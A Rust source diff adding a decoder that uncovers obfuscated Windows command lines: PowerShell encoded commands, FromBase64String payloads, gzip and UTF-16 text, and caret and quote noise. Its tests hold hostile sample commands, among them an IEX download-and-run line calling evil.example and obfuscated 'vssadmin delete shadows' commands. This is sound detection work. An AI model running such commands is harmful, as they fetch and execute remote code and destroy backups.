@@ -1,7 +1,13 @@
-//! Where the program of a command line ends and its arguments begin.
+//! Command lines: where the program ends and its arguments begin, and what is written in them so that nobody reads it.
 
-use memchr::memmem;
+use crate::text::Untrusted;
+use base64::Engine;
+use base64::alphabet;
+use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
+use memchr::memmem::{self, Finder};
+use std::io::Read;
 use std::ops::Range;
+use std::sync::LazyLock;
 
 /// How the name of a program's file ends.
 pub(crate) const ENDINGS: [&[u8]; 6] = [b".exe", b".com", b".scr", b".tmp", b".bat", b".cmd"];
@@ -53,6 +59,147 @@ pub fn split(line: &[u8]) -> (&[u8], &[u8]) {
     (line.get(program).unwrap_or_default(), rest.trim_ascii())
 }
 
+/// How often a decoded text is decoded again.
+const DEEPEST: usize = 4;
+
+/// The most of a line that is looked at, and of decoded texts that are taken from it, in bytes.
+const MOST_DECODED: usize = 256 * 1024;
+
+/// What a decoded text takes of that at least, so that there are few of them.
+const LEAST_TAKEN: usize = 1024;
+
+/// The shortest Base64 that is decoded: four letters of UTF-16 take eleven.
+const SHORTEST: usize = 8;
+
+/// PowerShell's option, which it takes by any of its beginnings.
+const ENCODED_COMMAND: &[u8] = b"encodedcommand";
+
+const FROM_BASE64: &[u8] = b"frombase64string";
+
+/// Base64 as sandboxes cut it: the end may be missing.
+const BASE64: GeneralPurpose = GeneralPurpose::new(
+    &alphabet::STANDARD,
+    GeneralPurposeConfig::new()
+        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
+        .with_decode_allow_trailing_bits(true),
+);
+
+/// What a command line hides, each text before those that are hidden in it: encoded commands, Base64 in a script, and
+/// the line without the carets and quotes that the shell takes out of its words. Nothing of most lines.
+pub fn decoded(line: &[u8]) -> Vec<Untrusted> {
+    let (mut found, mut room) = (Vec::new(), MOST_DECODED);
+    let mut level = hidden(line, room);
+    for _ in 0..DEEPEST {
+        let mut below = Vec::new();
+        for text in level {
+            let Some(left) = room.checked_sub(text.len().max(LEAST_TAKEN)) else { return found };
+            room = left;
+            below.extend(hidden(&text, room));
+            found.push(Untrusted::from(text));
+        }
+        level = below;
+    }
+    found
+}
+
+/// The texts that a line hides directly, each up to so many bytes.
+fn hidden(line: &[u8], room: usize) -> Vec<Vec<u8>> {
+    let line = line.get(..MOST_DECODED).unwrap_or(line);
+    if let Some(plain) = without_noise(line) {
+        return vec![plain];
+    }
+    let commands = memchr::memchr3_iter(b'-', b'/', 0xe2, line).filter_map(|at| encoded_command(line, at));
+    static DIGITS: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new(b"64"));
+    let strings = DIGITS.find_iter(line).filter_map(|at| base64_string(line, at));
+    commands.chain(strings).filter_map(|base64| text(base64, room)).collect()
+}
+
+/// The Base64 of an encoded command whose option begins here, with any of the dashes that PowerShell takes.
+fn encoded_command(line: &[u8], at: usize) -> Option<&[u8]> {
+    let before = at.checked_sub(1).and_then(|before| line.get(before));
+    if before.is_some_and(|byte| !byte.is_ascii_whitespace() && !b"\"'".contains(byte)) {
+        return None;
+    }
+    let rest = line.get(at..)?;
+    let dash = if matches!(rest, [0xe2, 0x80, 0x93..=0x95, ..]) { 3 } else { 1 };
+    let (name, rest) = word(rest.get(dash..)?, u8::is_ascii_alphabetic);
+    let is_beginning = ENCODED_COMMAND.get(..name.len()).is_some_and(|known| name.eq_ignore_ascii_case(known));
+    let is_option = !name.is_empty() && is_beginning || name.eq_ignore_ascii_case(b"ec");
+    let (gap, rest) = word(rest, |byte| byte.is_ascii_whitespace() || b"\"':".contains(byte));
+    let (base64, _) = word(rest, is_base64);
+    (is_option && !gap.is_empty() && base64.len() >= SHORTEST).then_some(base64)
+}
+
+/// The Base64 that `FromBase64String` is given, if the digits of that name stand here.
+fn base64_string(line: &[u8], digits: usize) -> Option<&[u8]> {
+    let start = digits.checked_sub(b"frombase".len())?;
+    let name = line.get(start..start + FROM_BASE64.len())?;
+    let (gap, rest) = word(line.get(start + name.len()..)?, |byte| b"( '\"".contains(byte));
+    let (base64, _) = word(rest, is_base64);
+    (name.eq_ignore_ascii_case(FROM_BASE64) && gap.contains(&b'(') && base64.len() >= SHORTEST).then_some(base64)
+}
+
+fn is_base64(byte: &u8) -> bool {
+    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/')
+}
+
+/// The first bytes as far as they are of a kind, and what follows.
+fn word(text: &[u8], is_part: impl Fn(&u8) -> bool) -> (&[u8], &[u8]) {
+    text.split_at(text.iter().position(|byte| !is_part(byte)).unwrap_or(text.len()))
+}
+
+/// The text that Base64 stands for, in UTF-16 or UTF-8, packed by gzip or not; none where that is no text.
+fn text(base64: &[u8], room: usize) -> Option<Vec<u8>> {
+    let whole = base64.len() - usize::from(base64.len() % 4 == 1);
+    let mut bytes = BASE64.decode(base64.get(..whole)?).ok()?;
+    if bytes.starts_with(&[0x1f, 0x8b]) {
+        let (packed, limit) = (std::mem::take(&mut bytes), u64::try_from(room).ok()?);
+        // What was cut off keeps its beginning.
+        let _ = flate2::read::GzDecoder::new(&*packed).take(limit).read_to_end(&mut bytes);
+    }
+    let is_wide = bytes.iter().skip(1).step_by(2).filter(|byte| **byte == 0).count() > bytes.len() / 4;
+    let text = if is_wide {
+        let units = bytes.chunks_exact(2).filter_map(|pair| pair.first_chunk().copied()).map(u16::from_le_bytes);
+        char::decode_utf16(units).map(|read| read.unwrap_or(char::REPLACEMENT_CHARACTER)).collect()
+    } else {
+        String::from_utf8(bytes).ok()?
+    };
+    let readable = text.bytes().filter(|byte| byte.is_ascii_graphic() || byte.is_ascii_whitespace()).count();
+    (readable > text.len() / 2 && !text.contains('\0')).then(|| text.into_bytes())
+}
+
+/// A line without the carets and quotes that stand within its words, such as `v^s^s` and `d"e"lete`; none where it
+/// has none. A quote alone parts an option from its value.
+fn without_noise(line: &[u8]) -> Option<Vec<u8>> {
+    let is_mark = |byte: &u8| matches!(byte, b'^' | b'"');
+    let may_be_inside = |at: usize| {
+        let near = [at.checked_sub(1).and_then(|before| line.get(before)), line.get(at + 1)];
+        near.iter().all(|side| side.is_some_and(|byte| byte.is_ascii_alphanumeric() || is_mark(byte)))
+    };
+    if !memchr::memchr2_iter(b'^', b'"', line).any(may_be_inside) {
+        return None;
+    }
+    let mut plain = Vec::with_capacity(line.len());
+    for word in line.split_inclusive(u8::is_ascii_whitespace) {
+        let parts: Vec<&[u8]> = word.chunk_by(|one, other| is_mark(one) == is_mark(other)).collect();
+        let is_inside = |three: &[&[u8]]| match three {
+            [before, marks, behind] if marks.iter().all(is_mark) => {
+                [before.last(), behind.first()].iter().all(|side| side.is_some_and(u8::is_ascii_alphanumeric))
+            }
+            _ => false,
+        };
+        let inside: Vec<_> =
+            parts.windows(3).filter(|three| is_inside(three)).filter_map(|three| three.get(1)).collect();
+        let is_noise = inside.iter().map(|marks| marks.len()).sum::<usize>() > 1 || inside.contains(&&&b"^"[..]);
+        for (number, part) in parts.iter().enumerate() {
+            let three = number.checked_sub(1).and_then(|first| parts.get(first..first + 3));
+            let goes = is_noise && three.is_some_and(is_inside);
+            plain.extend(part.iter().filter(|byte| !goes && !(is_noise && **byte == b'^')));
+        }
+    }
+    (plain.len() < line.len()).then_some(plain)
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -74,6 +221,60 @@ mod tests {
             ("  ", "", ""),
         ] {
             assert_eq!(split(line.as_bytes()), (program.as_bytes(), arguments.as_bytes()), "{line}");
+        }
+    }
+
+    fn base64(text: &str, is_wide: bool) -> String {
+        let wide: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
+        BASE64.encode(if is_wide { &wide } else { text.as_bytes() })
+    }
+
+    fn hides(line: &str) -> Vec<String> {
+        decoded(line.as_bytes()).iter().map(|text| String::from_utf8_lossy(text.as_bytes()).into_owned()).collect()
+    }
+
+    #[test]
+    fn what_a_command_hides_is_decoded() {
+        let command = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')";
+        let (wide, narrow) = (base64(command, true), base64(command, false));
+        let options = ["-e", "-ec", "-en", "/ENC", "-EncodedCommand", "\u{2013}enc", "-encod", "-enc:"];
+        for option in options {
+            assert_eq!(hides(&format!("powershell.exe -nop {option} {wide}")), [command], "{option}");
+            assert_eq!(hides(&format!(r#""powershell" {option}  "{wide}""#)), [command], "{option}");
+        }
+        for call in ["FromBase64String('", "frombase64STRING( \"", "FromBase64String(('"] {
+            assert_eq!(hides(&format!("iex([Text.Encoding]::UTF8.GetString([Convert]::{call}{narrow}'))")), [command]);
+        }
+        let nested = format!("powershell -e {wide}");
+        assert_eq!(hides(&format!("pow^ershell -en^c {}", base64(&nested, true))).last().unwrap(), command);
+        for (line, plain) in [
+            ("c^m^d /c v^s^s^a^d^m^i^n", "cmd /c vssadmin"),
+            (r#"cmd /c d"e"lete sha""dows /all"#, "cmd /c delete shadows /all"),
+            ("p^owershell ^& a", "powershell ^& a"),
+        ] {
+            assert_eq!(hides(line), [plain]);
+        }
+        let cut = wide.get(..41).unwrap();
+        assert_eq!(hides(&format!("powershell -enc {cut}")), ["IEX (New-Object"]);
+    }
+
+    #[test]
+    fn what_hides_nothing_stays_and_the_rest_ends() {
+        for line in [
+            r#"cmd.exe /c"echo hi" && "C:\Program Files\a.exe" --name="x" ^& {"a":"b"}"#,
+            "java -ea aGVsbG8gd29ybGQ=",
+            "tool -e 57874b32c2596f25db81f780cb7ae5bd2277ff9ca0176b87fecf2352ec56938c",
+            "curl -encoding SGVsbG8gd29ybGQgaGVsbG8=",
+            "FromBase64String('AAECAwQFBgcICQ==')",
+        ] {
+            assert_eq!(hides(line), [""; 0], "{line}");
+        }
+        let mut deep = "end of it".to_owned();
+        (0..12).for_each(|_| deep = format!("powershell -e {}", base64(&deep, false)));
+        assert_eq!(hides(&deep).len(), DEEPEST);
+        for noise in ["^\"", "-e AAAAAAAA ", "a^", "FromBase64String('QUJDREVGR0g=')"] {
+            let long = noise.repeat(MOST_DECODED);
+            assert!(hides(&format!("a{long}b")).iter().map(String::len).sum::<usize>() <= MOST_DECODED);
         }
     }
 }
